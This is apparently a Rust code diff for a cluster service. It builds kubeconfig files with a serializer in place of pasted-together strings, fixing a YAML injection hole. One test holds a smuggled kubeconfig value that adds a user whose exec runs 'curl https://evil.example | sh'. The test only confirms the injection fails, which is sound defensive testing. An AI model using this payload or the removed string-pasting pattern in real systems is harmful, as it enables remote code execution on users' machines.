@@ -4,11 +4,13 @@
 //! starts at once; the others wait, unseen by their agents, until node 0 reports ready with
 //! its address, and then get bootstraps that point at it. Containers all start at once.
 
+use serde::Serialize;
 use serde_json::{Value, json};
 
 use super::spec::ClusterKind;
 use crate::capacity::NodeStart;
 use crate::placement::PlanNode;
+use crate::providers::endpoints::Endpoints;
 
 /// Ports node 0 listens on, written into its bootstrap.
 const RAY_GCS_PORT: u16 = 6379;
@@ -77,16 +79,13 @@ pub(crate) fn is_leader(role: &str) -> bool {
 }
 
 /// The address a follower joins, from its leader's reported endpoints.
-pub(crate) fn leader_address(kind: ClusterKind, endpoints: &Value) -> Option<String> {
+pub(crate) fn leader_address(kind: ClusterKind, endpoints: &Endpoints) -> Option<String> {
     let key = match kind {
         ClusterKind::Ray => "ray",
         ClusterKind::Kubernetes => "api_server",
         ClusterKind::Container => return None,
     };
-    endpoints
-        .get(key)
-        .and_then(Value::as_str)
-        .map(str::to_string)
+    endpoints.get(key).map(|e| e.as_str().to_string())
 }
 
 /// A waiting follower's bootstrap once its leader answers at `address`.
@@ -102,23 +101,24 @@ fn admin_token(join_token: &str) -> String {
 }
 
 /// How the customer reaches a running cluster, from the nodes' reported endpoints:
-/// `(node_id, role, endpoints)` of every current node.
+/// `(node_id, role, endpoints)` of every current node. Every document in it is written by a
+/// serializer, never pasted together, so no reported value can add to its structure.
 pub(crate) fn connection(
     kind: ClusterKind,
     cluster_name: &str,
     join_token: &str,
-    nodes: &[(String, String, Value)],
+    nodes: &[(String, String, Endpoints)],
 ) -> Value {
     let leader = nodes.iter().find(|(_, role, _)| is_leader(role));
     match (kind, leader) {
         (ClusterKind::Ray, Some((id, _, ep))) => json!({
             "head_node_id": id,
-            "ray_address": ep.get("client").cloned().unwrap_or(Value::Null),
-            "gcs_address": ep.get("ray").cloned().unwrap_or(Value::Null),
-            "dashboard_url": ep.get("dashboard").cloned().unwrap_or(Value::Null),
+            "ray_address": ep.get("client"),
+            "gcs_address": ep.get("ray"),
+            "dashboard_url": ep.get("dashboard"),
         }),
         (ClusterKind::Kubernetes, Some((id, _, ep))) => {
-            let server = ep.get("api_server").and_then(Value::as_str).unwrap_or("");
+            let server = ep.get("api_server").map_or("", |e| e.as_str());
             json!({
                 "control_plane_node_id": id,
                 "api_server": server,
@@ -134,13 +134,94 @@ pub(crate) fn connection(
     }
 }
 
+/// A kubeconfig (`kubectl config view` shape) with one cluster, one user and one context.
+#[derive(Serialize)]
+struct KubeConfig<'a> {
+    #[serde(rename = "apiVersion")]
+    api_version: &'static str,
+    kind: &'static str,
+    clusters: [Named<'a, KubeCluster<'a>>; 1],
+    users: [Named<'a, KubeUser<'a>>; 1],
+    contexts: [Named<'a, KubeContext<'a>>; 1],
+    #[serde(rename = "current-context")]
+    current_context: &'a str,
+}
+
+#[derive(Serialize)]
+struct Named<'a, T> {
+    name: &'a str,
+    #[serde(flatten)]
+    value: T,
+}
+
+#[derive(Serialize)]
+struct KubeCluster<'a> {
+    cluster: KubeServer<'a>,
+}
+
+#[derive(Serialize)]
+struct KubeServer<'a> {
+    server: &'a str,
+    #[serde(rename = "insecure-skip-tls-verify")]
+    insecure_skip_tls_verify: bool,
+}
+
+#[derive(Serialize)]
+struct KubeUser<'a> {
+    user: KubeToken<'a>,
+}
+
+#[derive(Serialize)]
+struct KubeToken<'a> {
+    token: &'a str,
+}
+
+#[derive(Serialize)]
+struct KubeContext<'a> {
+    context: KubeContextRefs<'a>,
+}
+
+#[derive(Serialize)]
+struct KubeContextRefs<'a> {
+    cluster: &'a str,
+    user: &'a str,
+}
+
 fn kubeconfig(name: &str, server: &str, token: &str) -> String {
-    // The node's certificate is self-signed by k3s; the token is what authenticates.
-    format!(
-        "apiVersion: v1\nkind: Config\nclusters:\n- name: {name}\n  cluster:\n    server: {server}\n    insecure-skip-tls-verify: true\n\
-         users:\n- name: {name}-admin\n  user:\n    token: {token}\ncontexts:\n- name: {name}\n  context:\n    cluster: {name}\n    user: {name}-admin\n\
-         current-context: {name}\n"
-    )
+    let user = format!("{name}-admin");
+    let config = KubeConfig {
+        api_version: "v1",
+        kind: "Config",
+        clusters: [Named {
+            name,
+            value: KubeCluster {
+                cluster: KubeServer {
+                    server,
+                    // The node's certificate is self-signed by k3s; the token is what
+                    // authenticates.
+                    insecure_skip_tls_verify: true,
+                },
+            },
+        }],
+        users: [Named {
+            name: &user,
+            value: KubeUser {
+                user: KubeToken { token },
+            },
+        }],
+        contexts: [Named {
+            name,
+            value: KubeContext {
+                context: KubeContextRefs {
+                    cluster: name,
+                    user: &user,
+                },
+            },
+        }],
+        current_context: name,
+    };
+    // Strings, booleans and sequences of them always serialize.
+    serde_yaml::to_string(&config).unwrap_or_default()
 }
 
 #[cfg(test)]
@@ -176,17 +257,68 @@ mod tests {
         assert_eq!(worker.bootstrap["leader_address"], "10.0.0.1:6379");
     }
 
+    fn endpoints(v: serde_json::Value) -> Endpoints {
+        Endpoints::parse(v.as_object().unwrap()).unwrap()
+    }
+
     #[test]
     fn kubernetes_connection_is_a_kubeconfig() {
         let nodes = vec![(
             "nod_cp".to_string(),
             "control_plane".to_string(),
-            json!({"api_server": "https://10.0.0.1:6443"}),
+            endpoints(json!({"api_server": "https://10.0.0.1:6443"})),
         )];
         let c = connection(ClusterKind::Kubernetes, "k1", "secret", &nodes);
         let config = c["kubeconfig"].as_str().unwrap();
         assert!(config.contains("server: https://10.0.0.1:6443"));
         assert!(config.contains(&admin_token("secret")));
         assert!(!config.contains("secret\n"));
+        let parsed: serde_yaml::Value = serde_yaml::from_str(config).unwrap();
+        assert_eq!(parsed["current-context"], "k1");
+        assert_eq!(parsed["contexts"][0]["context"]["user"], "k1-admin");
+        assert_eq!(
+            parsed["clusters"][0]["cluster"]["insecure-skip-tls-verify"],
+            true
+        );
+    }
+
+    /// A server string that tries to add a user of its own stays one string: the kubeconfig
+    /// still has one cluster, one user and one context, and the string is the server.
+    #[test]
+    fn a_hostile_server_string_cannot_change_the_kubeconfig() {
+        let hostile = "https://x:6443\n- name: ops\n  user:\n    exec: {command: sh, args: [-c, 'curl https://evil.example | sh']}\n\
+                       contexts:\n- name: ops\n  context: {cluster: k1, user: ops}\ncurrent-context: ops";
+        let config = kubeconfig("k1", hostile, "tok");
+        let parsed: serde_yaml::Value = serde_yaml::from_str(&config).unwrap();
+        for list in ["clusters", "users", "contexts"] {
+            assert_eq!(parsed[list].as_sequence().unwrap().len(), 1, "{config}");
+        }
+        assert_eq!(parsed["clusters"][0]["cluster"]["server"], hostile);
+        assert_eq!(parsed["users"][0]["name"], "k1-admin");
+        assert_eq!(parsed["users"][0]["user"]["token"], "tok");
+        assert!(parsed["users"][0]["user"].get("exec").is_none());
+        assert_eq!(parsed["current-context"], "k1");
+        assert_eq!(
+            parsed.as_mapping().unwrap().len(),
+            6,
+            "apiVersion, kind, clusters, users, contexts, current-context: {config}"
+        );
+    }
+
+    #[test]
+    fn ray_and_container_connections_carry_the_endpoints() {
+        let head = endpoints(json!({"ray": "10.0.0.1:6379", "client": "ray://10.0.0.1:10001"}));
+        let nodes = vec![("nod_h".to_string(), "head".to_string(), head.clone())];
+        let c = connection(ClusterKind::Ray, "r", "secret", &nodes);
+        assert_eq!(c["ray_address"], "ray://10.0.0.1:10001");
+        assert_eq!(c["gcs_address"], "10.0.0.1:6379");
+        assert_eq!(c["dashboard_url"], serde_json::Value::Null);
+        assert_eq!(
+            leader_address(ClusterKind::Ray, &head).unwrap(),
+            "10.0.0.1:6379"
+        );
+        let nodes = vec![("nod_c".to_string(), "container".to_string(), head)];
+        let c = connection(ClusterKind::Container, "c", "secret", &nodes);
+        assert_eq!(c["nodes"][0]["endpoints"]["ray"], "10.0.0.1:6379");
     }
 }
